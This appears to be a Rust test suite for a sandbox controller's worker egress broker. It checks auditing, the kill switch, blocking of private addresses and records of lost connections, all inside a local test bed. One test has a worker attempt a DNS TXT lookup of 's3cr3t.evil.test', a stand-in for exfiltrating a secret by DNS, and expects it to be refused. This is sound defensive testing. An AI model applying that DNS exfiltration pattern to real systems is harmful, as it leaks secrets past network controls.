//! Egress for workers: a worker whose manifest allows hosts reaches them through its own
//! broker, every connection and DNS answer is in the audit trail as the worker's, and the
//! kill switch closes its connections. The controller runs in the client namespace of a
//! test bed (tests/common/egress_bed.rs), so nothing leaves the machine.

mod common;

use std::time::Duration;

use common::controller::TestController;
use common::egress_bed::*;
use common::*;

const CONTRACT: &str = "max_depth = 2\nmax_replicas = 4\ncooldown_seconds = 0\n";

#[test]
fn a_workers_connections_are_audited_and_the_kill_switch_closes_them() {
    if skip() {
        return;
    }
    let bed = Bed::new();
    let ctl = controller_in(&bed);
    let kit = bed.kit.path_str();
    let payload = bed.kit.payload();
    let out = ctl.cli(&[
        "spawn",
        "--no-controller",
        "--allow-host",
        "api.test:9001",
        "--ro",
        &kit,
        "--",
        PYTHON,
        &payload,
        "dns",
        "udp",
        "TXT",
        "s3cr3t.evil.test",
        "+",
        "read-forever",
        "api.test",
        "9001",
        "worker",
    ]);
    assert!(out.status.success(), "spawn: {}", stderr(&out));
    assert!(
        bed.servers()
            .wait_for_log("accept 9001", Duration::from_secs(20)),
        "the worker never reached the bed: {}\n{}",
        bed.servers().log(),
        ctl.log()
    );
    let answered = ctl.wait_audit("dns_answered", Duration::from_secs(10));
    assert!(
        answered.iter().any(|e| e["details"]["name"] == "api.test"
            && e["actor"]
                .as_str()
                .is_some_and(|a| a.starts_with("worker:"))),
        "{answered:?}"
    );
    let refused = ctl.wait_audit("dns_refused", Duration::from_secs(10));
    assert!(
        refused
            .iter()
            .any(|e| e["details"]["name"] == "s3cr3t.evil.test"),
        "{refused:?}"
    );
    let ks = ctl.cli(&["kill-switch"]);
    assert!(ks.status.success(), "kill-switch: {}", stderr(&ks));
    assert!(
        bed.servers()
            .wait_for_log("closed 9001", Duration::from_secs(10)),
        "the kill switch left the worker's connection open: {}",
        bed.servers().log()
    );
    let allowed = ctl.wait_audit("egress_allowed", Duration::from_secs(10));
    assert!(
        allowed.iter().any(|e| e["details"]["name"] == "api.test"
            && e["details"]["port"] == 9001
            && e["details"]["address"] == BED_ADDR),
        "{allowed:?}"
    );
    assert!(
        bed.servers().log_lines(&["udp 53"]).is_empty(),
        "a name went upstream: {}",
        bed.servers().log()
    );
}

#[test]
fn allow_external_reaches_any_public_host_and_no_private_one() {
    if skip() {
        return;
    }
    let bed = Bed::new();
    let netns = format!("--net=/run/netns/{}", bed.client);
    let public = format!("api.test={BED_ADDR}");
    let private = format!("inside.test={PRIVATE_ADDR}");
    let ctl = TestController::start_under(
        &["nsenter", &netns, "--"],
        CONTRACT,
        None,
        &["--resolve", &public, "--resolve", &private],
    );
    let kit = bed.kit.path_str();
    let payload = bed.kit.payload();
    let out = ctl.cli(&[
        "spawn",
        "--wait",
        "--no-controller",
        "--allow-external",
        "--ro",
        &kit,
        "--",
        PYTHON,
        &payload,
        "connect",
        "api.test",
        "9000",
        "+",
        "connect",
        "inside.test",
        "80",
        "+",
        "connect",
        PRIVATE_ADDR,
        "80",
    ]);
    assert_eq!(code(&out), 0, "spawn: {}", stderr(&out));
    let exited = ctl.wait_audit("worker_exited", Duration::from_secs(20));
    let id = exited[0]["worker_id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let log = std::fs::read_to_string(ctl.state_dir().join("workers").join(format!("{id}.log")))
        .unwrap_or_default();
    let lines: Vec<&str> = log.lines().collect();
    assert!(lines.first().is_some_and(|l| l.starts_with("ok")), "{log}");
    assert_eq!(lines.get(1), Some(&"proxy-status 403"), "{log}");
    assert_eq!(lines.get(2), Some(&"proxy-status 403"), "{log}");
    assert!(
        bed.servers().log_lines(&["accept 80"]).is_empty(),
        "a private address was reached: {}",
        bed.servers().log()
    );
}

#[test]
fn a_worker_broker_that_dies_is_recorded_as_a_lost_record_not_as_silence() {
    if skip() {
        return;
    }
    let bed = Bed::new();
    let ctl = controller_in(&bed);
    let payload = bed.kit.payload();
    // It lives on after its connection ends.
    let id = reader_of_the_bed(
        &ctl,
        &bed,
        &format!("{PYTHON} {payload} read-forever api.test 9001 lost; sleep 30"),
    );
    assert!(
        bed.servers()
            .wait_for_log("accept 9001", Duration::from_secs(20)),
        "the worker never reached the bed: {}",
        bed.servers().log()
    );
    let broker = titled(&bed, b"hatchery-broker");
    assert_eq!(broker.len(), 1, "{broker:?}");
    for p in &broker {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(*p),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    // A dead broker's socket is always "readable": the launcher must stop watching it,
    // not spin on it while the worker lives on.
    let launcher = titled(&bed, b"hatchery-launcher");
    assert_eq!(launcher.len(), 1, "{launcher:?}");
    let before = cpu_ticks(launcher[0]);
    std::thread::sleep(Duration::from_secs(2));
    let spent = cpu_ticks(launcher[0]).saturating_sub(before);
    assert!(
        spent < 50,
        "the launcher used {spent} ticks of CPU in 2 s after the broker died"
    );
    let out = ctl.cli(&["kill", &id]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let lost = ctl.wait_audit("egress_record_lost", Duration::from_secs(10));
    assert_eq!(lost[0]["worker_id"], id.as_str(), "{lost:?}");
}

#[test]
fn connections_open_when_the_launcher_or_the_controller_is_killed_are_said_lost() {
    if skip() {
        return;
    }
    let bed = Bed::new();
    let mut ctl = controller_in(&bed);
    let payload = bed.kit.payload();
    // A worker whose connection carries data and stays open, whichever process dies.
    let connected = |ctl: &TestController, tag: &str| -> String {
        let before = bed.servers().log_lines(&["accept 9001"]).len();
        let id = reader_of_the_bed(
            ctl,
            &bed,
            &format!("{PYTHON} {payload} read-forever api.test 9001 {tag}"),
        );
        let start = std::time::Instant::now();
        while bed.servers().log_lines(&["accept 9001"]).len() <= before
            && start.elapsed() < Duration::from_secs(20)
        {
            std::thread::sleep(Duration::from_millis(50));
        }
        assert!(
            bed.servers().log_lines(&["accept 9001"]).len() > before,
            "the worker never reached the bed: {}",
            bed.servers().log()
        );
        id
    };
    let lost_for = |ctl: &TestController, id: &str| -> Vec<serde_json::Value> {
        ctl.audit("egress_record_lost")
            .into_iter()
            .filter(|e| e["worker_id"] == id)
            .collect()
    };
    // The launcher dies alone (and the controller stops after it).
    let first = connected(&ctl, "launcher");
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(ctl.launcher_pid() as i32),
        nix::sys::signal::Signal::SIGKILL,
    );
    ctl.wait_audit("controller_stopped", Duration::from_secs(20));
    let lost = lost_for(&ctl, &first);
    assert_eq!(lost.len(), 1, "{:?}", ctl.audit("egress_record_lost"));
    assert!(
        lost[0]["details"]["error"]
            .as_str()
            .is_some_and(|e| e.contains("launcher")),
        "{lost:?}"
    );
    // The controller is killed: the next start says it.
    ctl.restart();
    let second = connected(&ctl, "controller");
    ctl.crash();
    ctl.restart();
    let start = std::time::Instant::now();
    while lost_for(&ctl, &second).is_empty() && start.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(100));
    }
    let lost = lost_for(&ctl, &second);
    let trail = std::fs::read_to_string(ctl.state_dir().join("audit.jsonl")).unwrap_or_default();
    assert_eq!(lost.len(), 1, "{trail}");
    assert!(
        lost[0]["details"]["error"]
            .as_str()
            .is_some_and(|e| e.contains("crashed or was killed")),
        "{lost:?}"
    );
    // Each said once: the first worker's end was recorded when its launcher died.
    assert_eq!(lost_for(&ctl, &first).len(), 1);
    let state = ctl.state_dir().display().to_string();
    let verify = hatchery_cmd(&["audit", "verify", "--state-dir", &state]);
    assert_eq!(code(&verify), 0, "{}", stderr(&verify));
}

/// A worker (with no controller socket) running `script`, allowed `api.test:9001` and
/// the bed's kit: its id.
fn reader_of_the_bed(ctl: &TestController, bed: &Bed, script: &str) -> String {
    let kit = bed.kit.path_str();
    let flags = [
        "--no-controller",
        "--allow-host",
        "api.test:9001",
        "--ro",
        &kit,
    ];
    match ctl.spawn(&flags, script) {
        Ok(id) => id,
        Err(out) => panic!("spawn: {}", stderr(&out)),
    }
}

/// Whether the test cannot run here (and says so).
fn skip() -> bool {
    if !is_root() {
        eprintln!("SKIP: worker egress needs root (network namespaces for the bed)");
    }
    !is_root()
}

/// A controller in the bed's client namespace that resolves `api.test` to the bed.
fn controller_in(bed: &Bed) -> TestController {
    let resolve = format!("api.test={BED_ADDR}");
    // nsenter joins the bed's network namespace alone (`ip netns exec` would also remount
    // /sys, hiding the host's cgroups from the controller).
    let netns = format!("--net=/run/netns/{}", bed.client);
    TestController::start_under(
        &["nsenter", &netns, "--"],
        CONTRACT,
        None,
        &["--resolve", &resolve],
    )
}

/// The processes of the bed's client namespace whose command line starts with `title`.
fn titled(bed: &Bed, title: &[u8]) -> Vec<i32> {
    let pids = run_with_timeout(
        std::process::Command::new("ip").args(["netns", "pids", &bed.client]),
        Duration::from_secs(10),
    );
    stdout(&pids)
        .lines()
        .filter_map(|p| p.trim().parse().ok())
        .filter(|p: &i32| {
            std::fs::read(format!("/proc/{p}/cmdline")).is_ok_and(|c| c.starts_with(title))
        })
        .collect()
}

/// User and system clock ticks a process has used.
fn cpu_ticks(pid: i32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    // Fields after the command (which may hold spaces) close with ')'.
    let rest = stat.rsplit_once(')').map_or("", |(_, r)| r);
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let field = |i: usize| {
        fields
            .get(i)
            .and_then(|f| f.parse::<u64>().ok())
            .unwrap_or(0)
    };
    // utime and stime are the 14th and 15th fields of the line: 12th and 13th after ')'.
    field(11).saturating_add(field(12))
}
